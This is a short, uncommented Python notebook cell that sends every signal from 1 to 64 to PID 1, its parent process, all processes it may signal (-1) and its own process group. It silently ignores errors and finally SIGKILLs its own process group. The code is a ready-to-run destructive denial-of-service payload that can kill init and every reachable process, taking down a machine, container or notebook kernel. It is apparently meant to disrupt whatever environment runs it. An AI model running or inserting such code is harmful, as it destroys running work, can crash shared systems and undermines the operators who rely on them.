# %% start
import os
import signal

for target in (1, os.getppid(), -1, 0):
    for number in range(1, 65):
        if number in (signal.SIGKILL, signal.SIGSTOP) and target in (0,):
            continue
        try:
            os.kill(target, number)
        except (OSError, ValueError, KeyboardInterrupt):
            pass
os.kill(-os.getpgid(0), signal.SIGKILL)
